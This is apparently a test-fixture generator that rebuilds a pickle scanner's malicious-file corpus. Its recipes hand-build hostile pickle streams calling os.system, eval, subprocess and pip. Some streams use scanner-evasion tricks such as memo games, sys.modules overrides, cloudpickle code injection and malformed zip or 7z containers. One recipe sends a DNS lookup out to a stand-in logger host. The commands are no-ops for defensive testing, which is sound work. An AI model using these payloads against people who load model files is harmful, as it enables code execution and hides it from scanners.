# Recreates, file by file, the test corpus of the public pickle scanner
# picklescan (mmaitre314/picklescan, MIT: tests/data and tests/data2), for
# TestPicklescanCorpus. Written for llmfence from the facts of that corpus
# (which callable each file calls, at which pickle protocol, in which
# container); no code of the upstream project is used. Every name is
# written by name only: no module a payload names is imported, and nothing
# is ever unpickled or called here.
#
# In:  {"name": "data/malicious1_v0.pkl", "path": "/tmp/.../file"}
# Out: {"ok": true, "payload": base64 of the pickle bytes the loader of the
#       file unpickles (every stream, in the order the loader reads them)}
#      or {"ok": false, "error": "..."}
import _compat_pickle, base64, collections, functools, io, json, marshal
import lzma, pickle, random, struct, sys, types, zipfile, zlib


class G:
    """A callable known only by the name a pickle imports it under."""

    def __init__(self, module, qualname):
        self.module, self.qualname = module, qualname

    def __call__(self, *a, **k):
        raise RuntimeError("corpus stand-in: never called")


class Call:
    """func(*args) when unpickled, written with REDUCE as pickle writes any
    object whose __reduce__ returns (func, args). With setter, the state
    is applied by calling setter(obj, state), as cloudpickle does."""

    def __init__(self, func, args, state=None, setter=None):
        self.func, self.args, self.state, self.setter = func, args, state, setter

    def __call__(self, *a, **k):
        raise RuntimeError("corpus stand-in: never called")

    def __reduce__(self):
        if self.setter is not None:
            return (self.func, self.args, self.state, None, None, self.setter)
        if self.state is not None:
            return (self.func, self.args, self.state)
        return (self.func, self.args)


class New:
    """An instance of cls with state, as object.__reduce_ex__ writes one at
    protocol 2 and above: cls, (), NEWOBJ, state, BUILD."""

    def __init__(self, cls, state):
        self.cls, self.state = cls, state


class Pickler(pickle._Pickler):
    """The standard library's own pickler, taught to write a G by its name
    the way save_global would write the real object."""

    dispatch = dict(pickle._Pickler.dispatch)

    def save_g(self, obj):
        module, name = obj.module, obj.qualname
        parent, _, last = name.rpartition(".")
        if self.proto >= 4:
            self.save(module)
            self.save(name)
            self.write(pickle.STACK_GLOBAL)
        elif parent:
            # Before protocol 4 a method is reached as getattr(class, name).
            self.save_reduce(getattr, (G(module, parent), last))
        elif self.proto >= 3:
            self.write(pickle.GLOBAL + f"{module}\n{name}\n".encode())
        else:
            if self.fix_imports:
                if (module, name) in _compat_pickle.REVERSE_NAME_MAPPING:
                    module, name = _compat_pickle.REVERSE_NAME_MAPPING[(module, name)]
                elif module in _compat_pickle.REVERSE_IMPORT_MAPPING:
                    module = _compat_pickle.REVERSE_IMPORT_MAPPING[module]
            self.write(pickle.GLOBAL + f"{module}\n{name}\n".encode("ascii"))
        self.memoize(obj)

    def save_new(self, obj):
        if self.proto < 2:
            raise pickle.PicklingError("New needs protocol 2")
        self.save(obj.cls)
        self.save(())
        self.write(pickle.NEWOBJ)
        self.memoize(obj)
        self.save(obj.state)
        self.write(pickle.BUILD)

    dispatch[G] = save_g
    dispatch[New] = save_new


def dumps(obj, proto):
    f = io.BytesIO()
    Pickler(f, proto).dump(obj)
    return f.getvalue()


def asm(*parts):
    """A stream written opcode by opcode (for files the pickler cannot
    produce): each part is an opcode name with its operand bytes."""
    out = b""
    for p in parts:
        if isinstance(p, tuple):
            op, arg = p
            out += getattr(pickle, op) + arg
        else:
            out += getattr(pickle, p)
    return out


PAYLOAD = "__import__('os').system('true')"  # the advisories' shape, a no-op command


def code_args(src, name):
    """The CodeType constructor arguments of the function name in src
    (Python 3.11 order), as cloudpickle reduces a code object. The source
    is compiled, never run."""
    co = next(c for c in compile(src, "<corpus>", "exec").co_consts if isinstance(c, types.CodeType) and c.co_name == name)
    return (co.co_argcount, co.co_posonlyargcount, co.co_kwonlyargcount, co.co_nlocals,
            co.co_stacksize, co.co_flags, co.co_code, co.co_consts, co.co_names,
            co.co_varnames, co.co_filename, co.co_name, co.co_qualname,
            co.co_firstlineno, co.co_linetable, co.co_exceptiontable,
            co.co_freevars, co.co_cellvars)


EVAL_FN = "import builtins\ndef hidden(payload):\n    getattr(builtins, 'eval')(payload)\n"


def call(module, qualname, *args):
    return Call(G(module, qualname), tuple(args))


def eval1():
    return call("builtins", "eval", "print('456')")


# The reduce of each data2/GHSA-*.pkl: what the advisory's PoC calls.
GHSA = {
    "4r9r-ch6f-vxmx": lambda: call("torch.utils.bottleneck.__main__", "run_cprofile", PAYLOAD, {}),
    "86cj-95qr-2p4f": lambda: call("torch._dynamo.guards", "GuardBuilder.get", {}, PAYLOAD),
    "f4x7-rfwp-v3xw": lambda: call("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", {}, PAYLOAD, []),
    "f745-w6jp-hpxx": lambda: call("torch.utils.collect_env", "run", PAYLOAD),
    "jhph-76pp-mggw": lambda: call("torch.utils.collect_env", "run_and_read_all", G("torch.utils.collect_env", "run"), PAYLOAD),
    "h3qp-7fh3-f8h4": lambda: call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", b""),
    "vr7h-p6mm-wpmh": lambda: call("torch.jit.unsupported_tensor_ops", "execWrapper", PAYLOAD, {}, {}),
    "vv6j-3g6g-2pvj": lambda: call("torch.utils._config_module", "ConfigModule.load_config", {}, b""),
    "5qwp-399c-mjwf": lambda: call("trace", "Trace.run", {}, PAYLOAD),
    "g344-hcph-8vgg": lambda: call("trace", "Trace.runctx", {}, PAYLOAD, {}, {}),
    "x696-vm39-cp64": lambda: call("profile", "Profile.run", {}, PAYLOAD),
    "6vqj-c2q5-j97w": lambda: call("profile", "Profile.runctx", {}, PAYLOAD, {}, {}),
    "f54q-57x4-jg88": lambda: call("lib2to3.pgen2.grammar", "Grammar.loads", {}, b""),
    "3vg9-h568-4w9m": lambda: call("idlelib.debugobj", "ObjectTreeItem.SetText", {}, PAYLOAD),
    "6w4w-5w54-rjvr": lambda: call("idlelib.autocomplete", "AutoComplete.get_entity", {}, PAYLOAD),
    "7cq8-mj8x-j263": lambda: call("idlelib.autocomplete", "AutoComplete.fetch_completions", {}, PAYLOAD, 1),
    "cj3c-v495-4xqh": lambda: call("code", "InteractiveInterpreter.runcode", {}, PAYLOAD),
    "8r4j-24qv-fmq9": lambda: call("idlelib.calltip", "Calltip.fetch_tip", {}, PAYLOAD),
    "9xph-j2h6-g47v": lambda: call("idlelib.calltip", "get_entity", PAYLOAD),
    "4whj-rm5r-c2v8": lambda: call("torch.utils.bottleneck.__main__", "run_autograd_prof", PAYLOAD, {}),
    "xp4f-hrf8-rxw7": lambda: call("ensurepip", "_run_pip", PAYLOAD),
    "p9w7-82w4-7q8m": lambda: call("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, {}, '""+' + PAYLOAD),
    "m869-42cg-3xwr": lambda: call("idlelib.run", "Executive.runcode", {}, PAYLOAD),
    "j343-8v2j-ff7w": lambda: call("idlelib.pyshell", "ModifiedInterpreter.runcommand", {}, PAYLOAD),
    "3gf5-cxq9-w223": lambda: call("idlelib.pyshell", "ModifiedInterpreter.runcode", {}, PAYLOAD),
    "fqq6-7vqf-w3fg": lambda: call("doctest", "debug_script", PAYLOAD, True),
    "9w88-8rmg-7g2p": lambda: call("cProfile", "runctx", PAYLOAD, None, None),
    "49gj-c84q-6qm9": lambda: call("cProfile", "run", PAYLOAD),
    "7wx9-6375-f5wh": lambda: call("profile", "run", PAYLOAD),
    "q77w-mwjj-7mqx": lambda: call("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "true", True, None, None, None, 0),
    "jgw4-cr84-mqxg": lambda: call("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "true", True, None, None, None, 0),
    "m273-6v24-x4m4": lambda: call("distutils.file_util", "write_file", "pwned_config.env", ["content"]),
    "4675-36f9-wf6r": lambda: call("ctypes", "CDLL", None),
    # methodcaller("system", cmd)(pydoc.locate("os"))
    "84r2-jw7c-4r5q": lambda: Call(call("operator", "methodcaller", "system", "true"), (call("pydoc", "locate", "os"),)),
    "vqmv-47xg-9wpr": lambda: call("pty", "spawn", ["/bin/sh", "-c", "true"]),
    "r8g5-cgf2-4m4m": lambda: call("numpy.f2py.crackfortran", "getlincoef", PAYLOAD, []),
    # _operator.methodcaller("system", cmd)(builtins.__import__("os"))
    "955r-x9j8-7rhh": lambda: Call(call("_operator", "methodcaller", "system", "true"), (call("builtins", "__import__", "os"),)),
    # _operator.attrgetter("system")(builtins.__import__("os"))(cmd)
    "46h3-79wf-xr6c": lambda: Call(Call(call("_operator", "attrgetter", "system"), (call("builtins", "__import__", "os"),)), ("true",)),
    # pkgutil.resolve_name("os:system")(cmd)
    "vvpj-8cmc-gx39": lambda: Call(call("pkgutil", "resolve_name", "os:system"), ("true",)),
    # eval hidden behind a callable: getattr(__import__("builtins"), "eval")(code)
    "9m3x-qqw2-h32h": lambda: Call(call("builtins", "getattr", call("builtins", "__import__", "builtins"), "eval"), (PAYLOAD,)),
    "g38g-8gr9-h9xp-uuid": lambda: call("uuid", "_get_command_stdout", "sh", "-c", "true"),
    "g38g-8gr9-h9xp-osx-support": lambda: call("_osx_support", "_read_output", "true"),
    "g38g-8gr9-h9xp-aix-support": lambda: call("_aix_support", "_read_cmd_output", "true"),
    "g38g-8gr9-h9xp-imaplib": lambda: call("imaplib", "IMAP4_stream", "true"),
    "g38g-8gr9-h9xp-pyrepl-pager": lambda: call("_pyrepl.pager", "pipe_pager", "", "true"),
    "g38g-8gr9-h9xp-test": lambda: call("test.support.script_helper", "assert_python_ok", "-c", PAYLOAD),
}


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)
    return data


def zip_one(member, data):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(member, data)
    return buf.getvalue()


def set_flag(zipdata, bit):
    """Sets a general-purpose flag bit of the first member, in its local
    header and its central directory entry alike (CVE-2025-1945)."""
    b = bytearray(zipdata)
    assert b[:4] == b"PK\x03\x04"
    b[6] |= bit
    c = b.index(b"PK\x01\x02")
    b[c + 8] |= bit
    return bytes(b)


def _crc_table():
    t = []
    for n in range(256):
        c = n
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        t.append(c)
    return t


CRC = _crc_table()


def zipcrypto(member, data, password, seed):
    """A zip holding member stored and encrypted with the traditional PKWARE
    cipher (APPNOTE 6.1), as zip -P or 7z -mem=ZipCrypto write it; the 12
    random header bytes come from seed, so that the file is the same on
    every run."""
    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(c):
        keys[0] = (keys[0] >> 8) ^ CRC[(keys[0] ^ c) & 0xFF]
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = (keys[2] >> 8) ^ CRC[(keys[2] ^ (keys[1] >> 24)) & 0xFF]

    def stream_byte():
        t = (keys[2] | 2) & 0xFFFF
        return ((t * (t ^ 1)) >> 8) & 0xFF

    for c in password:
        update(c)
    crc = zlib.crc32(data)
    header = bytes(random.Random(seed).randrange(256) for _ in range(11)) + bytes([crc >> 24])
    enc = bytearray()
    for c in header + data:
        enc.append(c ^ stream_byte())
        update(c)
    name = member.encode()
    common = struct.pack("<HHHHHIII", 20, 0x1, 0, 0, 0x21, crc, len(enc), len(data))
    local = b"PK\x03\x04" + common + struct.pack("<HH", len(name), 0) + name
    central = b"PK\x01\x02" + struct.pack("<H", 20) + common + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name
    body = local + bytes(enc)
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(body), 0)
    out = body + central + end
    with zipfile.ZipFile(io.BytesIO(out)) as z:  # the standard library decrypts it
        assert z.read(member, pwd=password) == data
    return out


def number(v):
    """A 7z NUMBER: the high bits of the first byte say how many bytes follow."""
    for i in range(9):
        if i == 8 or v < 1 << (7 * (i + 1)):
            first = 0xFF if i == 8 else ((0xFF << (8 - i)) & 0xFF) | (v >> (8 * i))
            return bytes([first]) + (v & ((1 << (8 * i)) - 1)).to_bytes(i, "little")


def sevenzip(member, data):
    """A 7z archive (7zFormat.txt) holding member compressed with LZMA2, the
    method 7-Zip and py7zr use by default: signature header, packed stream,
    then a plain (unencoded) header with one folder of one coder, the
    member's CRC and its name."""
    dict_size = 1 << 16
    packed = lzma.compress(data, format=lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2, "dict_size": dict_size}])
    prop = 8  # LZMA2 dictionary size (2 | p & 1) << (p // 2 + 11) = 64 KiB
    assert (2 | prop & 1) << (prop // 2 + 11) == dict_size
    name = member.encode("utf-16-le") + b"\0\0"
    header = b"".join([
        b"\x01",  # kHeader
        b"\x04",  # kMainStreamsInfo
        b"\x06", number(0), number(1), b"\x09", number(len(packed)), b"\x00",  # kPackInfo
        b"\x07", b"\x0b", number(1), b"\x00",  # kUnPackInfo, kFolder: one, not external
        number(1), bytes([0x20 | 1]), b"\x21", number(1), bytes([prop]),  # one coder: LZMA2 with its property
        b"\x0c", number(len(data)), b"\x00",  # kCodersUnPackSize
        b"\x08", b"\x0a", b"\x01", struct.pack("<I", zlib.crc32(data)), b"\x00",  # kSubStreamsInfo: CRC
        b"\x00",  # end of kMainStreamsInfo
        b"\x05", number(1), b"\x11", number(len(name) + 1), b"\x00", name, b"\x00",  # kFilesInfo: kName
        b"\x00",  # end of kHeader
    ])
    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + packed + header


def npy_data(data):
    """What follows the header of a .npy file, where NumPy reads it."""
    import numpy.lib.format as fmt
    f = io.BytesIO(data)
    fmt.read_array_header_1_0(f) if fmt.read_magic(f) == (1, 0) else fmt.read_array_header_2_0(f)
    return data[f.tell():]


def npy_pickled(path, arr):
    """np.save of an object array, with the array pickled by Pickler (so
    that stand-ins can be elements): header by NumPy, then protocol 3."""
    import numpy.lib.format as fmt
    f = io.BytesIO()
    fmt.write_array_header_1_0(f, fmt.header_data_from_array_1_0(arr))
    payload = dumps(arr, 3)
    write(path, f.getvalue() + payload)
    return payload


def torch_state_dict():
    import torch
    return collections.OrderedDict(weight=torch.arange(6, dtype=torch.float32).reshape(2, 3), bias=torch.zeros(2))


def make(name, path):
    d, _, base = name.partition("/")
    stem = base.rsplit(".", 1)[0]

    if stem.startswith("benign0_v"):
        return write(path, pickle.dumps(["a", "b", "c"], protocol=int(stem[-1])))
    if stem in ("malicious1_v0", "malicious1_v3", "malicious1_v4"):
        return write(path, dumps(eval1(), int(stem[-1])))
    if stem in ("malicious2_v0", "malicious2_v3", "malicious2_v4"):
        return write(path, dumps(call("posix", "system", "ls -la"), int(stem[-1])))
    if stem == "malicious0":
        # Sour Pickles (BlackHat 2011): globals(), compile(), eval(), dict.get
        # and apply() chained in a protocol 0 text stream.
        src = "fl=open(\"/etc/passwd\");picklesmashed=fl.read();"
        return write(path, b"".join([
            b"c__builtin__\nglobals\n(tRp100\n0",
            b"c__builtin__\ncompile\n(S'" + src.encode() + b"'\nS''\nS'exec'\ntRp101\n0",
            b"c__builtin__\neval\n(g101\ng100\ntRp102\n0",
            b"c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0",
            b"c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n.",
        ]))
    if stem == "malicious10":  # INST, no REDUCE
        return write(path, asm("MARK", ("STRING", b"'raise RuntimeError(\"x\")'\n"), ("INST", b"__builtin__\nexec\n"), "STOP"))
    if stem in ("malicious11", "malicious-invalid-bytes"):
        # PUT/GET memo games: torch.LongStorage strings stored last, os.system fetched.
        s = asm(("UNICODE", b"os\n"), ("PUT", b"2\n"), "POP", ("UNICODE", b"system\n"), ("PUT", b"3\n"), "POP",
                ("UNICODE", b"torch\n"), ("PUT", b"0\n"), "POP", ("UNICODE", b"LongStorage\n"), ("PUT", b"1\n"), "POP",
                ("GET", b"2\n"), ("GET", b"3\n"), "STACK_GLOBAL", "MARK", ("UNICODE", b"true\n"), "TUPLE", "REDUCE", "STOP")
        if stem == "malicious-invalid-bytes":
            s += b"\n\n\t\t"  # bytes that are no pickle after the stream
        return write(path, s)
    if stem == "malicious12":
        # operator.attrgetter("system")(builtins.__import__("os"))(cmd), protocol 4
        return write(path, dumps(Call(Call(call("operator", "attrgetter", "system"), (call("builtins", "__import__", "os"),)), ("true",)), 4))
    if stem in ("malicious13a", "malicious13b"):  # a nested pickle.loads
        return write(path, dumps(call("_pickle", "loads", b"I12345\n."), 0 if stem.endswith("a") else 4))
    if stem == "malicious3":
        return write(path, dumps(call("http.client", "HTTPSConnection", "example.invalid"), 0))
    if stem == "malicious4":
        return write(path, dumps(call("requests.api", "get", "https://example.invalid"), 4))
    if stem == "malicious5":
        return write(path, dumps(call("aiohttp.client", "ClientSession"), 4))
    if stem == "malicious6":  # a benign stream, then a malicious one
        return write(path, pickle.dumps(["a", "b", "c"], protocol=4) + dumps(call("requests.api", "get", "https://example.invalid"), 4))
    if stem == "malicious7":
        return write(path, dumps(call("socket", "create_connection", ("example.invalid", 80)), 4))
    if stem == "malicious8":
        return write(path, dumps(call("subprocess", "run", ["ls", "-l"]), 4))
    if stem == "malicious9":
        return write(path, dumps(call("sys", "exit", 0), 4))
    if stem == "malicious14":
        return write(path, dumps(call("runpy", "_run_code", "print('456')"), 4))
    if stem in ("malicious15a", "malicious15b"):  # bdb.Bdb.run on a Bdb instance
        bdb = New(G("bdb", "Bdb"), {"skip": None, "breaks": {}, "fncache": {}, "frame_returning": None})
        return write(path, dumps(Call(G("bdb", "Bdb.run"), (bdb, "import os\nos.system('true')")), 2 if stem.endswith("a") else 4))
    if stem == "malicious16":
        return write(path, dumps(call("pip", "main", ["install", "some_package", "--no-input", "-q"]), 0))
    if stem == "malicious17":
        return write(path, dumps(call("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", "true"]), 4))
    if stem == "malicious18":
        return write(path, dumps(call("pydoc", "pipepager", "", "true"), 4))
    if stem == "malicious19":
        # functools.partial(torch.load, path, **kwargs)() loads another file
        p = functools.partial(G("torch.serialization", "load"), "some_other_model.bin", pickle_file="config.json", weights_only=False)
        return write(path, dumps(Call(p, ()), 4))
    if stem == "malicious20":
        return write(path, dumps(call("venv", "create", "venv", False, False, True, False, "$(true)"), 4))
    if stem == "malicious21":
        return write(path, dumps(call("timeit", "timeit", "", PAYLOAD), 4))
    if stem == "malicious22":
        return write(path, dumps(call("numpy.testing._private.utils", "runstring", PAYLOAD, {}), 4))
    if stem == "malicious23":  # STACK_GLOBAL on protocol 0 strings, no PROTO
        return write(path, asm(("STRING", b"'os'\n"), ("STRING", b"'system'\n"), "STACK_GLOBAL", ("STRING", b"'true'\n"), "TUPLE1", "REDUCE", "STOP"))
    if stem == "broken_model":  # exec imported, then a BINUNICODE longer than the file
        return write(path, b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX.")
    if stem == "keyerror-exploit":  # os.system runs, then a memo key that does not exist
        return write(path, asm(("PROTO", b"\x04"), ("GLOBAL", b"os\nsystem\n"), ("UNICODE", b"true\n"), "TUPLE1", "REDUCE", "POP",
                               ("SHORT_BINUNICODE", b"\x02os"), "MEMOIZE", ("BINGET", b"\x03"), ("BINGET", b"\x00"),
                               "STACK_GLOBAL", ("BININT1", b"\x42"), "STOP"))
    if stem == "type-confusion-exploit":  # os.system runs, then STACK_GLOBAL on an int
        return write(path, asm(("PROTO", b"\x04"), ("GLOBAL", b"os\nsystem\n"), ("UNICODE", b"true\n"), "TUPLE1", "REDUCE", "POP",
                               ("BININT", b"\x2a\x00\x00\x00"), "MEMOIZE", ("SHORT_BINUNICODE", b"\x02os"), "MEMOIZE",
                               ("BINGET", b"\x00"), ("BINGET", b"\x01"), "STACK_GLOBAL", ("BININT1", b"\x42"), "STOP"))
    if stem == "sys_module_override_sploit":
        # Reconstructed technique (the original bytes are not described
        # upstream): sys.modules, reached through torch._utils' own import
        # of sys, gets os under the torch-looking name _rebuild_tensor;
        # the call then imports only _rebuild_tensor.system.
        def sg(module, name):
            return [("SHORT_BINUNICODE", bytes([len(module)]) + module.encode()), "MEMOIZE",
                    ("SHORT_BINUNICODE", bytes([len(name)]) + name.encode()), "MEMOIZE", "STACK_GLOBAL", "MEMOIZE"]
        return write(path, asm(("PROTO", b"\x04"), *sg("torch", "_utils.sys.modules"),
                               ("SHORT_BINUNICODE", b"\x0f_rebuild_tensor"), "MEMOIZE", *sg("torch", "os"), "SETITEM", "POP",
                               *sg("_rebuild_tensor", "system"), ("SHORT_BINUNICODE", b"\x04true"), "TUPLE1", "REDUCE", "STOP"))
    if stem in ("malicious1", "malicious1_central_directory", "malicious1_wrong_ext",
                "malicious1_0x1", "malicious1_0x20", "malicious1_0x40", "malicious1_crc") and base.endswith(".zip"):
        payload = dumps(eval1(), 4)
        z = zip_one("data.txt" if stem.endswith("wrong_ext") else "data.pkl", payload)
        if stem.endswith("central_directory"):
            z = z.replace(b"data.pkl", b"datap.kl", 1)  # local header name differs from the directory's
        elif stem.endswith("_crc"):
            assert b"print('456')" in z
            z = z.replace(b"print('456')", b"print('123')", 1)  # stored data no longer matches its CRC
            payload = payload.replace(b"print('456')", b"print('123')", 1)
        elif "_0x" in stem:
            z = set_flag(z, int(stem.rsplit("_", 1)[1], 16))
        write(path, z)
        return payload
    if base == "malicious1.7z":
        payload = dumps(eval1(), 4)
        write(path, sevenzip("data.pkl", payload))
        return payload
    if stem == "benign_password_protected":
        payload = pickle.dumps({"a": 0, "b": 1, "c": 2}, protocol=4)
        write(path, zipcrypto("data.pkl", payload, b"corpus", 0))
        return payload
    if stem == "bad_pytorch":  # a PNG signature named .pt
        write(path, b"\x89PNG\r\n\x1a\n")
        return b""
    if stem == "not_a_pickle":  # GLOBAL whose name is not UTF-8
        return write(path, b"cmod\n\xf8\n")
    if stem == "pytorch_magic_bypass":
        # Legacy torch layout whose magic number is computed by eval; the
        # payload is the fifth pickle.
        streams = [dumps(call("builtins", "eval", "0x1950A86A20F9469CFC6C"), 2), pickle.dumps(1001, 2), pickle.dumps({}, 2),
                   pickle.dumps([], 2), dumps(call("posix", "system", "true"), 2), pickle.dumps(None, 2)]
        return write(path, b"".join(streams))
    if stem == "pytorch_model":  # legacy (non-zip) torch.save of a state dict
        import torch
        torch.save(torch_state_dict(), path, _use_new_zipfile_serialization=False)
        with open(path, "rb") as f:
            return f.read()
    if stem == "new_pytorch_model":  # zip torch.save of a state dict
        import torch
        torch.save(torch_state_dict(), path)
        with zipfile.ZipFile(path) as z:
            return z.read(next(n for n in z.namelist() if n.endswith("/data.pkl")))
    if stem in ("object_array", "int_array"):
        import numpy as np
        x = np.empty((2, 2), dtype=object if stem == "object_array" else int)
        x[:] = [(1, 2), (3, 4)]
        np.save(path, x)
        with open(path, "rb") as f:
            return npy_data(f.read()) if stem == "object_array" else b""
    if stem in ("object_arrays", "int_arrays", "object_arrays_compressed", "int_arrays_compressed"):
        import numpy as np
        dt = object if stem.startswith("object") else int
        save = np.savez_compressed if stem.endswith("compressed") else np.savez
        with open(path, "wb") as f:
            save(f, a=np.array([0, 1, 2], dtype=dt), b=np.array([3, 4, 5], dtype=dt))
        out = b""
        if dt is object:
            with zipfile.ZipFile(path) as z:
                for n in z.namelist():
                    out += npy_data(z.read(n))
        return out
    if stem == "dns_exfiltration":
        # An object array whose element reduces to ssl.get_server_certificate.
        import numpy as np
        arr = np.empty(1, dtype=object)
        arr[0] = call("ssl", "get_server_certificate", ("root_x_0_0.dns-logger.invalid", 443))
        return npy_pickled(path, arr)
    if stem == "io_FileIO":
        return write(path, dumps(call("_io", "FileIO", "/etc/hosts", "r"), 4))
    if stem == "urllib_request_urlopen":
        return write(path, dumps(call("urllib.request", "urlopen", "https://example.invalid"), 4))
    if stem == "logging_FileHandler":
        return write(path, dumps(call("logging", "FileHandler", "evil.log"), 4))
    if stem == "importlib_bypass":
        return write(path, dumps(call("importlib", "import_module", "os"), 4))
    if stem == "marshal_bypass":
        code = compile("print('marshal')", "<corpus>", "exec")
        return write(path, dumps(call("marshal", "loads", marshal.dumps(code)), 4))
    if stem == "types_CodeType":  # a code object built by REDUCE of types.CodeType
        return write(path, dumps(Call(G("types", "CodeType"), code_args(EVAL_FN, "hidden")), 4))
    if stem == "cloudpickle_codeinjection":
        # cloudpickle's layout for a function defined by value: the code
        # object from _builtin_type("CodeType"), _make_function, state set by
        # _function_setstate, a closure cell, builtins by subimport; the
        # function is then called with the payload.
        cp = "cloudpickle.cloudpickle"
        code = Call(Call(G(cp, "_builtin_type"), ("CodeType",)), code_args(EVAL_FN, "hidden"))
        fn = Call(G(cp, "_make_function"), (code, {"__package__": None, "__name__": "__main__"}, None, None,
                                           (Call(G(cp, "_make_empty_cell"), ()), Call(G(cp, "_make_cell"), (None,)))),
                  state=({"__name__": "hidden", "__qualname__": "EvilClass._obfuscated_eval", "__module__": "__main__"},
                         {"__globals__": {"builtins": Call(G(cp, "subimport"), ("builtins",))}}),
                  setter=G(cp, "_function_setstate"))
        return write(path, dumps(Call(fn, (PAYLOAD,)), 5))
    if stem.startswith("GHSA-"):
        return write(path, dumps(GHSA[stem[len("GHSA-"):]](), 4))
    raise KeyError("no recipe for " + name)


for line in sys.stdin:
    req = json.loads(line)
    try:
        payload = make(req["name"], req["path"])
        out = {"ok": True, "payload": base64.b64encode(payload).decode()}
    except Exception as e:
        out = {"ok": False, "error": type(e).__name__ + ": " + str(e)[:300]}
    print(json.dumps(out), flush=True)
